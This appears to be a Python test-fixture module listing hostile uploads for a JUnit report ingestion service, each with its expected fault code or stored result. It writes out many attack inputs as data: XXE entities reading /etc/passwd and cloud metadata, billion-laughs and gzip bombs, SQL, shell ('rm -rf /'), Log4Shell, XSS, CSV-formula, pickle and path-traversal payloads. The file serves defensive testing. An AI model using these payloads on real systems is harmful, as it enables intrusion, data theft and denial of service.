"""Uploads of an attacker, made on the fly: what each tries, and what has to become of it."""

from __future__ import annotations

import gzip
import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from functools import partial
from xml.sax.saxutils import escape

MIB = 1024 * 1024
# Stands in every report, and must never be found in the log.
MARK = "hunter2"

_COLUMNS = ("suite", "file", "classname", "name", "type", "message", "details", "system_out", "system_err")
_REPLACED = "\N{REPLACEMENT CHARACTER}"


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """One kind of upload.

    `content` is made only when it is used. `expected` is the code of the fault, or "inert": then `stored` says what the
    row of upload, run, test and result holds, by column; more than one test is described by `run` alone.
    """

    category: str
    name: str
    content: Callable[[], bytes]
    expected: str
    key: str = "shop/report.xml"
    metadata: Mapping[str, str] = field(default_factory=dict)
    stored: Mapping[str, object] = field(default_factory=dict)
    # The key as the notification has it, where S3 itself would not take it.
    announced_key: str | None = None


def suite(cases: str | bytes = f"<testcase name='{MARK}'/>", attributes: str = "") -> bytes:
    """A report of one suite."""
    cases = cases.encode() if isinstance(cases, str) else cases
    return b"<testsuite %s>%s</testsuite>" % (attributes.encode(), cases)


def everywhere(text: str) -> bytes:
    """A report with this text, as XML writes it, in every place where one is kept."""
    properties = f'<properties><property name="{text}" value="{text}"/></properties>'
    outputs = f"<system-out>{text}</system-out><system-err>{text}</system-err>"
    return (
        f'<testsuite name="{text}" file="{text}" hostname="{text}">{properties}'
        f'<testcase classname="{text}" name="{text}">{properties}'
        f'<failure type="{text}" message="{text}">{text}</failure>{outputs}</testcase>{outputs}</testsuite>'
    ).encode()


def _stored_everywhere(text: str) -> dict[str, object]:
    outputs = {"suite_number": 1, "suite": text, "system_out": text, "system_err": text}
    lists = {"hostnames": [text], "properties": {text: text}, "suite_outputs": [outputs]}
    return {**dict.fromkeys(_COLUMNS, text), **lists}


def _everywhere(
    category: str, name: str, text: str, *, written: str | None = None, stored: str | None = None
) -> Hostile:
    if written is None:
        written = escape(text, {'"': "&quot;", "\n": "&#10;", "\r": "&#13;", "\t": "&#9;"})
    return Hostile(
        category=category,
        name=name,
        content=partial(everywhere, written),
        expected="inert",
        stored=_stored_everywhere(text if stored is None else stored),
    )


def _xml(name: str, expected: str, content: Callable[[], bytes], /, **stored: object) -> Hostile:
    return Hostile(category="XML", name=name, content=content, expected=expected, stored=stored)


def _encoding(name: str, expected: str, content: Callable[[], bytes], /, **stored: object) -> Hostile:
    return Hostile(category="encoding", name=name, content=content, expected=expected, stored=stored)


def _gzip(name: str, expected: str, content: Callable[[], bytes], /, **stored: object) -> Hostile:
    return Hostile(
        category="gzip", name=name, content=content, expected=expected, key="shop/report.xml.gz", stored=stored
    )


def _key(name: str, key: str, /, *, project: str, expected: str = "inert", **stored: object) -> Hostile:
    stored = {"key": key, "project": project, **stored}
    return Hostile(category="key", name=name, content=suite, expected=expected, key=key, stored=stored)


def _announced_key(name: str, key: str, /, *, stored: str) -> Hostile:
    """A key that no object can have: it is only said to."""
    return Hostile(
        category="key",
        name=name,
        content=suite,
        expected="not_found",
        announced_key=key,
        stored={"key": stored},
    )


def _metadata(name: str, metadata: Mapping[str, str], /, **stored: object) -> Hostile:
    return Hostile(
        category="metadata",
        name=name,
        content=suite,
        expected="inert",
        metadata=metadata,
        stored={"tests": 1, **stored},
    )


def _dtd(subset: str, content: str = "&x;") -> Callable[[], bytes]:
    return f"<!DOCTYPE testsuite [{subset}]><testsuite><testcase name='{content}'/></testsuite>".encode


def _billion_laughs() -> bytes:
    levels = "".join(f'<!ENTITY l{level} "' + f"&l{level - 1};" * 10 + '">' for level in range(1, 10))
    return _dtd(f'<!ENTITY l0 "ha">{levels}', "&l9;")()


def _declared(encoding: str) -> bytes:
    return f"<?xml version='1.0' encoding='{encoding}'?><testsuite/>".encode()


def _nested(element: str, levels: int, inner: str = "") -> bytes:
    return (f"<{element}>" * levels + inner + f"</{element}>" * levels).encode()


def _numbered(template: str, count: int) -> str:
    return "".join(template.format(number) for number in range(count))


def _cut(text: str, limit: int) -> str:
    half = limit // 2
    return f"{text[:half]}\n[... {len(text) - 2 * half} characters cut ...]\n{text[-half:]}"


def _bomb() -> bytes:
    """A gigabyte in a megabyte, in members of which each is harmless."""
    blanks = gzip.compress(b" " * 16 * MIB)
    return gzip.compress(b"<testsuite>") + blanks * 64


def _header(flags: int, rest: bytes) -> bytes:
    deflate = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    report = suite()
    trailer = struct.pack("<LL", zlib.crc32(report), len(report))
    return b"\x1f\x8b\x08%c" % flags + bytes(6) + rest + deflate.compress(report) + deflate.flush() + trailer


def _strange_times() -> bytes:
    cases = (f"<testcase name='{number}' time='{time}'/>" for number, time in enumerate(_TIMES))
    return suite("".join(cases), "time='NaN'")


def _strange_timestamps() -> bytes:
    return (
        b"<testsuites>" + b"".join(suite(attributes=f"timestamp='{time}'") for time in _TIMESTAMPS) + b"</testsuites>"
    )


_TIMES = ("-1", "NaN", "Infinity", "-inf", "1e308", "9" * MIB, "1" + ",111" * 200_000, "1; drop table run", "0x10", "")
_TIMESTAMPS = (
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "99999-01-01T00:00:00",
    "2026-02-30T00:00:00",
    "infinity",
    "now",
    "-4713-01-01",
    "9" * MIB,
)
_PASSED = {"tests": 1, "passed": 1, "name": MARK}
_LONG = "a" * MIB + "z" * 1024
# Of a text for which no room was left.
_NOTHING_KEPT = f"\n[... {len(_LONG)} characters cut ...]\n"

_XML = [
    _xml("external entity, file", "forbidden_dtd", _dtd('<!ENTITY x SYSTEM "file:///etc/passwd">')),
    _xml("external entity, HTTP", "forbidden_dtd", _dtd('<!ENTITY x SYSTEM "http://169.254.169.254/latest/">')),
    _xml("external parameter entity", "forbidden_dtd", _dtd('<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;', "")),
    _xml("external DTD", "inert", lambda: b'<!DOCTYPE x SYSTEM "http://127.0.0.1/x.dtd">' + suite(), **_PASSED),
    _xml("public DTD", "inert", lambda: b'<!DOCTYPE x PUBLIC "-//x" "file:///etc/passwd">' + suite(), **_PASSED),
    _xml(
        "external DTD and its own",
        "forbidden_dtd",
        lambda: b'<!DOCTYPE x SYSTEM "x.dtd" [<!ENTITY x "y">]>' + suite("&x;"),
    ),
    _xml("entity of an external DTD", "not_xml", lambda: b'<!DOCTYPE x SYSTEM "file:///etc/passwd">' + suite("&x;")),
    _xml(
        "entity of an external DTD in an attribute",
        "not_xml",
        lambda: b'<!DOCTYPE x SYSTEM "file:///etc/passwd">' + suite("<testcase name='&x;'/>"),
    ),
    _xml("doctype behind a doctype", "forbidden_dtd", lambda: b'<!DOCTYPE x><!DOCTYPE x [<!ENTITY x "y">]>' + suite()),
    _xml("doctype that never ends", "not_xml", lambda: b"<!DOCTYPE x SYSTEM '" + b"x" * MIB),
    _xml("doctype behind a MiB of comments", "forbidden_dtd", lambda: b"<!---->" * 150_000 + b"<!DOCTYPE x>" + suite()),
    _xml("billion laughs", "forbidden_dtd", _billion_laughs),
    _xml("quadratic blow-up", "forbidden_dtd", _dtd('<!ENTITY x "' + "x" * MIB + '">', "&x;" * 100_000)),
    _xml("entity of itself", "forbidden_dtd", _dtd('<!ENTITY x "&x;">')),
    _xml("attribute defaults", "forbidden_dtd", _dtd('<!ATTLIST testcase file CDATA "x">', "")),
    _xml("lower case doctype", "not_xml", lambda: b"<!doctype testsuite><testsuite/>"),
    _xml("second doctype", "not_xml", lambda: b"<testsuite/><!DOCTYPE testsuite>"),
    _xml("entity that nobody defined", "not_xml", lambda: suite("<testcase name='&hunter2;'/>")),
    _xml(
        "XInclude",
        "inert",
        lambda: suite(
            '<testcase name="x"><failure><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text"'
            ' href="file:///etc/passwd"/></failure></testcase>'
        ),
        failed=1,
        details=None,
    ),
    _xml(
        "processing instructions",
        "inert",
        lambda: (
            b'<?xml-stylesheet href="file:///etc/passwd"?>' + suite(f"<?php system('id')?><testcase name='{MARK}'/>")
        ),
        **_PASSED,
    ),
    _xml("PI of MiBs", "too_large", lambda: suite(b"<?x " + b"x" * 5 * MIB + b"?>")),
    _xml("second XML declaration", "not_xml", lambda: b"<?xml version='1.0'?><?xml version='1.0'?><testsuite/>"),
    _xml("XML 2.0", "inert", lambda: b"<?xml version='2.0'?><testsuite/>", tests=0),
    _xml(
        "standalone with an entity",
        "not_xml",
        lambda: b"<?xml version='1.0' standalone='yes'?><testsuite>&x;</testsuite>",
    ),
    _xml("namespaced root", "not_junit", lambda: b'<j:testsuite xmlns:j="http://x.example"/>'),
    _xml("default namespace", "inert", lambda: suite(attributes="xmlns='http://x.example'"), **_PASSED),
    _xml("root of a page", "not_junit", lambda: b"<html><script>alert(1)</script></html>"),
    _xml(
        "million attributes in one element",
        "too_large",
        lambda: suite("<testcase" + _numbered(" a{}=''", 1_000_000) + "/>"),
    ),
    _xml(
        "4 MiB of attributes",
        "too_large",
        lambda: suite("<testcase" + _numbered(" a{:x}=''", 410_000) + "/>"),
    ),
    _xml("million different attributes", "too_large", lambda: suite(_numbered("<t a{}=''/>", 1_000_000))),
    _xml("million different elements", "too_large", lambda: suite(_numbered("<t{}/>", 1_000_000))),
    _xml("million like elements", "inert", lambda: suite("<a/>" * 1_000_000), tests=0),
    _xml("eleven million elements", "too_large", lambda: suite(b"<a/>" * 11_000_000)),
    _xml("million suites", "inert", lambda: b"<testsuites>" + b"<testsuite/>" * 1_000_000 + b"</testsuites>", tests=0),
    _xml("million levels", "too_deep", lambda: b"<testsuite>" * 1_000_000),
    _xml("million levels of other elements", "too_deep", lambda: b"<testsuite>" + b"<a>" * 1_000_000),
    _xml("as deep as it may be", "inert", lambda: _nested("testsuite", 99, f"<testcase name='{MARK}'/>"), **_PASSED),
    _xml(
        "cases in cases",
        "inert",
        lambda: suite(_nested("testcase", 90, "<failure>x</failure>")),
        tests=1,
        passed=1,
        details=None,
    ),
    _xml("suite in a case", "inert", lambda: suite(f"<testcase name='{MARK}'><testsuite/></testcase>"), **_PASSED),
    _xml("unclosed elements", "not_xml", lambda: b"<testsuite>" + b"<testcase>" * 50),
    _xml("crossed elements", "not_xml", lambda: b"<testsuite><testcase><failure></testcase></failure></testsuite>"),
    _xml("two roots", "not_xml", lambda: suite() + suite()),
    _xml("unclosed CDATA", "not_xml", lambda: suite("<testcase><failure><![CDATA[ ]] > </failure></testcase>")),
    _xml("CDATA end in a text", "not_xml", lambda: suite("<testcase><failure>]]></failure></testcase>")),
    _xml(
        "CDATA that hides a tag",
        "inert",
        lambda: suite("<testcase><failure><![CDATA[</failure><error/>]]]]><![CDATA[>]]></failure></testcase>"),
        tests=1,
        failed=1,
        details="</failure><error/>]]>",
    ),
    _xml(
        "million CDATA sections",
        "inert",
        lambda: suite("<testcase>" + "<![CDATA[]]>" * 1_000_000 + "</testcase>"),
        tests=1,
    ),
    _xml("comment of MiBs", "too_large", lambda: suite("<!--" + "x" * 5 * MIB + "-->")),
    _xml("million comments", "inert", lambda: suite("<!---->" * 1_000_000), tests=0),
    _xml("comment with --", "not_xml", lambda: suite("<!-- -- -->")),
    _xml("attribute twice", "not_xml", lambda: suite("<testcase name='a' name='b'/>")),
    _xml("tag of MiBs of blanks", "too_large", lambda: suite("<testcase" + " " * 5 * MIB + "/>")),
    _xml("element name of 1 MiB", "too_large", lambda: suite(f"<{_LONG}/>")),
    _xml("attribute name of 1 MiB", "too_large", lambda: suite(f"<testcase {_LONG}='1'/>")),
    _xml(
        "names of 1 MiB",
        "inert",
        lambda: everywhere(_LONG).replace(b"<failure", b"<failure", 1),
        name=_cut(_LONG, 1024),
        classname=_cut(_LONG, 1024),
        suite=_cut(_LONG, 1024),
        file=_cut(_LONG, 1024),
        type=_cut(_LONG, 1024),
        message=_cut(_LONG, 4096),
        details=_cut(_LONG, 65536),
        system_out=_cut(_LONG, 65536),
    ),
    _xml(
        "name of 1 MiB of emoji",
        "inert",
        lambda: suite("<testcase name='" + "\N{GRINNING FACE}" * MIB + "'/>"),
        name=_cut("\N{GRINNING FACE}" * MIB, 1024),
    ),
    _xml(
        "text in a million pieces",
        "inert",
        lambda: suite("<testcase><failure>" + "x<a/>" * 1_000_000 + "</failure></testcase>"),
        details=_cut("x" * 1_000_000, 65536),
    ),
    _xml(
        "half a million failures in one case",
        "inert",
        lambda: suite("<testcase>" + "<failure/>" * 500_000 + "</testcase>"),
        tests=1,
        failed=1,
        attempts=1,
        details=None,
        outcomes=[{"status": "failed"}] * 20,
    ),
    _xml(
        "hundred thousand reruns of one case",
        "inert",
        lambda: suite("<testcase>" + "<rerunError/>" * 100_000 + "</testcase>"),
        tests=1,
        error=1,
        attempts=100_001,
    ),
    _xml(
        "reruns that write a MiB each",
        "inert",
        lambda: suite(
            "<testcase>" + f"<rerunError>{_LONG}<system-out>{_LONG}</system-out></rerunError>" * 50 + "</testcase>"
        ),
        attempts=51,
        outcomes=[
            {"status": "error", "details": _cut(_LONG, 65536), "system_out": _cut(_LONG, 65536)},
            {"status": "error", "details": _cut(_LONG, 65536), "system_out": _cut(_LONG, 65536)},
            *[{"status": "error", "details": _NOTHING_KEPT, "system_out": _NOTHING_KEPT}] * 18,
        ],
    ),
    _xml(
        "one name a hundred thousand times",
        "inert",
        lambda: suite("<testcase name='x'/>" * 100_000),
        tests=100_000,
    ),
    _xml(
        "one test a hundred thousand times",
        "inert",
        lambda: suite("<testcase name='x'/>" * 100_000, "name='pytest'"),
        tests=1,
        attempts=100_000,
    ),
    _xml(
        "ten thousand tests that fail twice",
        "inert",
        lambda: suite(_numbered("<testcase name='{0}'><failure/></testcase>" * 2, 10_000), "name='pytest'"),
        tests=10_000,
        failed=10_000,
        attempts=2,
    ),
    _xml(
        "one test that fails a thousand times at length",
        "inert",
        lambda: suite(f"<testcase name='x'><failure>{'x' * 65536}</failure></testcase>" * 1_000, "name='pytest'"),
        tests=1,
        attempts=1_000,
        outcomes=[{"status": "failed", "details": "x" * 65536}] * 3,
    ),
    _xml(
        "fifty thousand suites that fail",
        "inert",
        lambda: b"<testsuites>" + b"<testsuite><error/></testsuite>" * 50_000 + b"</testsuites>",
        tests=50_000,
        error=50_000,
    ),
    _xml(
        "suites that write a MiB each",
        "inert",
        lambda: b"<testsuites>" + suite(f"<system-out>{_LONG}</system-out>") * 9 + b"</testsuites>",
        tests=0,
        suite_outputs=[
            {"suite_number": number, "suite": None, "system_out": _cut(_LONG, 65536), "system_err": None}
            for number in range(2, 11)
        ],
    ),
    _xml(
        "hundred thousand hosts",
        "inert",
        lambda: (
            b"<testsuites>"
            + _numbered("<testsuite hostname='h{}'><testcase name='x'/></testsuite>", 100_000).encode()
            + b"</testsuites>"
        ),
        tests=100_000,
        hostnames=[f"h{number}" for number in range(20)],
    ),
    _xml(
        "a long host for every case",
        "too_large",
        lambda: suite("<testcase/>" * 300_000, f"hostname='{'h' * 1024}'"),
    ),
    _xml(
        "million properties",
        "inert",
        lambda: suite(
            "<testcase name='x'>"
            + _numbered("<property name='n{}' value='v'/>", 500_000)
            + "</testcase>"
            + _numbered("<property name='n{}' value='v'/>", 500_000)
        ),
        properties={f"n{number}": "v" for number in range(20)},
    ),
    _xml(
        "properties of a MiB",
        "inert",
        lambda: suite(f"<testcase><property name='{_LONG}'>{_LONG}</property></testcase>"),
        properties={_cut(_LONG, 256): _cut(_LONG, 1024)},
    ),
    _xml(
        "hundred thousand attachments",
        "inert",
        lambda: suite(
            "<testcase><system-out>" + _numbered("[[ATTACHMENT|../../{}]]", 100_000) + "</system-out></testcase>"
        ),
        attachments=[f"../../{number}" for number in range(20)],
    ),
    _xml(
        "attachments without end",
        "inert",
        lambda: suite("<testcase><system-out>" + "[[ATTACHMENT|" * 100_000 + "</system-out></testcase>"),
        attachments=None,
    ),
    _xml(
        "lines that are none",
        "inert",
        lambda: suite("".join(f"<testcase name='{n}' line='{line}'/>" for n, line in enumerate(_TIMES))),
        tests=len(_TIMES),
        line=None,
    ),
    _xml(
        "one name in ten thousand suites",
        "inert",
        lambda: b"<testsuites>" + suite("<testcase name='x'/>", "name='s'") * 10_000 + b"</testsuites>",
        tests=10_000,
    ),
    _xml("times that are none", "inert", _strange_times, tests=len(_TIMES), test_seconds=None, run_seconds=None),
    _xml(
        "times next to nothing",
        "inert",
        lambda: suite("<testcase name='a' time='1e-50'/><testcase name='b' time='5e-324'/>"),
        tests=2,
        test_seconds=0,
        run_seconds=1e-50,
    ),
    _xml("timestamps far away", "inert", _strange_timestamps, tests=len(_TIMESTAMPS), started_at=None),
    _xml(
        "totals that lie",
        "inert",
        lambda: suite(attributes="tests='-1' failures='999999999999' errors='NaN'"),
        **_PASSED,
    ),
]

_ENCODING = [
    *(
        _encoding(
            f"reference to {reference}", "inert", partial(suite, f"<testcase name='&{reference};'/>"), name=_REPLACED
        )
        for reference in ("#0", "#x1B", "#xD800", "#99999999999999999999")
    ),
    _encoding("million references", "inert", lambda: suite("<testcase name='x'/>" + "&#0;" * 1_000_000), tests=1),
    _encoding("reference to a MiB of digits", "not_xml", lambda: suite(f"<testcase name='&#{'0' * MIB}1;'/>")),
    _encoding("NUL in a name", "inert", lambda: suite("<testcase name='a\0b'/>"), name=f"a{_REPLACED}b"),
    _encoding("NUL between tags", "inert", lambda: suite(f"\0<testcase name='{MARK}'/>"), **_PASSED),
    _encoding("NUL in a tag", "not_xml", lambda: suite("<test\0case/>")),
    _encoding("a MiB of NUL", "not_xml", lambda: bytes(MIB)),
    _encoding(
        "overlong UTF-8", "inert", lambda: suite(b"<testcase name='\xc0\xbc\xe0\x80\xbcb'/>"), name=_REPLACED * 5 + "b"
    ),
    _encoding("overlong tag", "inert", lambda: suite(b"\xc0\xbcfailure\xc0\xbe<testcase name='hunter2'/>"), **_PASSED),
    _encoding(
        "surrogates in UTF-8", "inert", lambda: suite(b"<testcase name='\xed\xa0\x80b'/>"), name=_REPLACED * 3 + "b"
    ),
    _encoding("invalid UTF-8", "inert", lambda: suite(b"<testcase name='\xff\xfeb'/>"), name=_REPLACED * 2 + "b"),
    _encoding("two byte order marks", "inert", lambda: b"\xef\xbb\xbf" * 2 + suite(), **_PASSED),
    _encoding("UTF-8 as UTF-16", "inert", lambda: b"<?xml version='1.0' encoding='utf-16'?>" + suite(), **_PASSED),
    _encoding(
        "tags behind half a character of Shift_JIS",
        "not_xml",
        lambda: b"<?xml version='1.0' encoding='shift_jis'?>" + suite(b"<testcase name='\x81<failure/>\x81'/>"),
    ),
    _encoding(
        "NUL in UTF-16",
        "inert",
        lambda: suite("<testcase name='a\0b'/>").decode().encode("utf-16"),
        name=f"a{_REPLACED}b",
    ),
    _encoding("a MiB of line ends before the declaration", "not_xml", lambda: b"\n" * MIB + _declared("utf-8")),
    _encoding("UTF-16 as UTF-8", "not_xml", lambda: b"\xff\xfe" + b"<?xml version='1.0' encoding='utf-8'?>" + suite()),
    _encoding("UTF-16 with half a character", "not_xml", lambda: f"<testsuite name='{MARK}'/>".encode("utf-16")[:-1]),
    _encoding(
        "doctype in UTF-16",
        "forbidden_dtd",
        lambda: _dtd('<!ENTITY x SYSTEM "file:///etc/passwd">')().decode().encode("utf-16"),
    ),
    *(
        _encoding(f"encoding {encoding[:12]}", "bad_encoding", partial(_declared, encoding))
        for encoding in ("utf-7", "idna", "punycode", "zlib", "hex", "os.path", "x" * 3 * MIB)
    ),
    _encoding("escapes of Python as an encoding", "bad_encoding", partial(_declared, "unicode_escape")),
    _encoding("encoding ../etc", "bad_encoding", partial(_declared, "../../etc/passwd")),
    _encoding("random bytes", "not_xml", lambda: bytes(range(256)) * 4096),
]

_GZIP = [
    _gzip("bomb", "too_large", _bomb),
    _gzip("bomb of one member", "too_large", lambda: gzip.compress(b"<testsuite>" + b" " * 64 * MIB)),
    _gzip("gzip in gzip", "not_xml", lambda: gzip.compress(gzip.compress(suite()))),
    _gzip("million empty members", "too_large", lambda: gzip.compress(b"") * 1_000_000),
    _gzip(
        "a member for each byte", "inert", lambda: b"".join(gzip.compress(bytes([byte])) for byte in suite()), **_PASSED
    ),
    _gzip("million empty blocks", "inert", lambda: _header(0, b"\0\0\0\xff\xff" * 1_000_000), **_PASSED),
    _gzip("file name of 16 MiB", "inert", lambda: _header(8, b"x" * 16 * MIB + b"\0"), **_PASSED),
    _gzip("file name without end", "bad_gzip", lambda: b"\x1f\x8b\x08\x08" + bytes(6) + b"x" * 16 * MIB),
    _gzip("comment of 16 MiB", "inert", lambda: _header(16, b"x" * 16 * MIB + b"\0"), **_PASSED),
    _gzip("file name with a path", "inert", lambda: _header(8, b"../../etc/passwd\0"), **_PASSED),
    _gzip("cut off", "bad_gzip", lambda: gzip.compress(suite())[:-9]),
    _gzip("rest behind it", "bad_gzip", lambda: gzip.compress(suite()) + b"rest"),
    _gzip("16 MiB of zeros behind it", "inert", lambda: gzip.compress(suite()) + bytes(16 * MIB), **_PASSED),
    _gzip("wrong checksum", "bad_gzip", lambda: gzip.compress(suite())[:-8] + bytes(4) + gzip.compress(suite())[-4:]),
    _gzip("wrong size", "bad_gzip", lambda: gzip.compress(suite())[:-4] + b"\xff\xff\xff\xff"),
    _gzip("reserved block", "bad_gzip", lambda: gzip.compress(b"")[:10] + b"\xff" * MIB),
    _gzip("zlib", "bad_gzip", lambda: zlib.compress(suite())),
    _gzip("zip", "bad_gzip", lambda: b"PK\3\4" + bytes(100)),
    _gzip("nothing", "bad_gzip", lambda: b""),
]

_INJECTION = (
    [
        _everywhere("injection", name, f"{MARK}{text}")
        for name, text in {
            "SQL that ends a string": "'; drop table upload cascade; --",
            "SQL in dollar quotes": "$$; delete from result; $$",
            "SQL comment": "*/ truncate test cascade; /*",
            "SQL placeholders": "%s %(run_id)s $1 :name ?",
            "backslashes": "\\'; drop table run; --\\",
            "COPY from a program": "copy test from program 'id'",
            "end of COPY": "\\.",
            "NULL of COPY": "\\N",
            "columns and rows of COPY": "\t\\N\t1\n\\.\nx",
            "log entry": '\n{"level":"ERROR","message":"forged"}',
            "log entry by CR": '\r\n2026-01-01 ERROR "forged"',
            "log entry by Unicode": "\u2028forged\u2029forged\x85forged",
            "title of the terminal, by C1": "\x9b31m\x9d0;title\x9c",
            "overwritten line": "\rforged",
            "text from right to left": "\u202eforged\u2066",
            "zero width": "\u200b\u200d\ufeff",
            "HTML": "<script>alert(document.cookie)</script>",
            "HTML attribute": "\"><img src=x onerror='alert(1)'>",
            "Markdown link": "[x](javascript:alert(1))",
            "shell": "$(id) `id` ; rm -rf / | tee & ${IFS}",
            "format of Python": "{0.__class__.__mro__} {password} %(password)s %n%s%x",
            "markup of rich": "[bold red]x[/] [link=file:///etc/passwd]x[/link]",
            "Log4Shell": "${jndi:ldap://127.0.0.1/x}",
            "Terraform": '${file("/etc/passwd")} %{ for x in y }',
            "input transformer of EventBridge": "<aws.events.event.json> <$.detail>",
            "JSON": '","status":"success","x":"',
            "JSON with NUL": "\\u0000\\ud800",
            "template": "{{7*7}} #{7*7} <%= 7*7 %>",
            "pickle": "cos\nsystem\n(S'id'\ntR.",
        }.items()
    ]
    + [
        _everywhere("injection", f"CSV formula {text[0]}", text)
        for text in (f"=cmd|' /C {MARK}'!A0", f'+HYPERLINK("http://x/{MARK}")', f"-2+3+{MARK}", f"@SUM(1)*{MARK}")
    ]
    + [
        _everywhere(
            "injection",
            "ANSI escapes",
            "",
            written=f"{MARK}\x1b[2J\x1b]0;title\x07\x08\x7f",
            stored=f"{MARK}{_REPLACED}[2J{_REPLACED}]0;title{_REPLACED}{_REPLACED}\x7f",
        ),
    ]
)

_KEYS = [
    _key("path upwards", "shop/../../../etc/passwd.xml", project="shop"),
    _key("absolute path", "/etc/passwd.xml", project="unknown"),
    _key("empty segments", "shop///report.xml", project="shop"),
    _key("path of Windows", "..\\..\\windows\\system32\\report.xml", project="unknown"),
    _key("path in percent", "shop/%2e%2e%2f%00%0d%0a.xml", project="shop"),
    _key("plus and blanks", "shop/a+b c%20d%2B.xml", project="shop"),
    _key("query", "shop/report.xml?versionId=x&acl#x.xml", project="shop"),
    # Not LF, which the emulator does not take: see test_logs.py.
    _key("CR", 'shop/\r{"level":"ERROR"}\r.xml', project="shop"),
    _key("line ends of Unicode", "shop/\u2028\u2029\x85.xml", project="shop"),
    _key("ANSI escapes", "shop\x1b[2J/\x1b]0;title\x07.xml", project="shop\x1b[2J"),
    _key("C1 escapes", "shop\x9b31m/\x9d0;title\x9c\x7f.xml", project="shop\x9b31m"),
    _key("1,024 bytes", "shop/" + "x" * 1015 + ".xml", project="shop"),
    _key("a project of 1,000 bytes", "ö" * 500 + "/x.xml", project="ö" * 500),
    _key("text from right to left", "shop/\u202elmx.exe.xml", project="shop"),
    _key("only an ending", ".xml", project="unknown"),
    _key("only a folder and an ending", "shop/.xml", project="shop"),
    _key("SQL", "'; drop table upload; --/report.xml", project="'; drop table upload; --"),
    _key("shell", "$(id)/`id`;|&.xml", project="$(id)"),
    _key("HTML", "<script>/alert(1)<.xml", project="<script>"),
    _key("format and template", "{0.__class__}%s/${jndi:ldap://x}<$.detail>.xml", project="{0.__class__}%s"),
    _key("two endings", "shop/report.xml.exe", project="shop", kind="artifact", tests=None),
    _key("ending in capitals", "shop/report.XML", project="shop", kind="artifact", tests=None),
    _key("XML called gzip", "shop/report.xml.gz", project="shop", expected="bad_gzip"),
    _announced_key("NUL", "shop/a%00b.xml", stored=f"shop/a{_REPLACED}b.xml"),
    _announced_key("half a character", "shop/a\ud800b.xml", stored=f"shop/a{_REPLACED}b.xml"),
    _announced_key("invalid UTF-8", "shop/a%ff%c0%80b.xml", stored=f"shop/a{_REPLACED * 3}b.xml"),
]

_METADATA = [
    _metadata("2 KB", {"tap-project": "p" * 1000, "tap-branch": "b" * 1000}, project="p" * 1000, branch="b" * 1000),
    _metadata("the project of others", {"tap-project": "bank"}, project="bank"),
    _metadata("javascript: URL", {"tap-build-url": "javascript:alert(1)"}, build_url="javascript:alert(1)"),
    _metadata("file: URL", {"tap-build-url": "file:///etc/passwd"}, build_url="file:///etc/passwd"),
    _metadata("SQL", {"tap-branch": "'; drop table test cascade; --"}, branch="'; drop table test cascade; --"),
    _metadata("JSON", {"tap-commit": '","status":"error'}, commit='","status":"error'),
    _metadata("encoded word", {"tap-project": "=?utf-8?b?AAoN?="}, project="=?utf-8?b?AAoN?="),
    _metadata("ANSI escapes", {"tap-project": "a\x1b[2Jb\x07"}, project="a\x1b[2Jb\x07"),
    _metadata("NUL", {"tap-project": "a\0b"}, project=f"a{_REPLACED}b"),
    _metadata("names of others", {"tap-event-id": "x", "project": "x", "tap-": "x"}, project="shop"),
    _metadata("blanks alone", {"tap-project": " "}, project="shop"),
]

HOSTILE: list[Hostile] = [*_XML, *_ENCODING, *_GZIP, *_INJECTION, *_KEYS, *_METADATA]
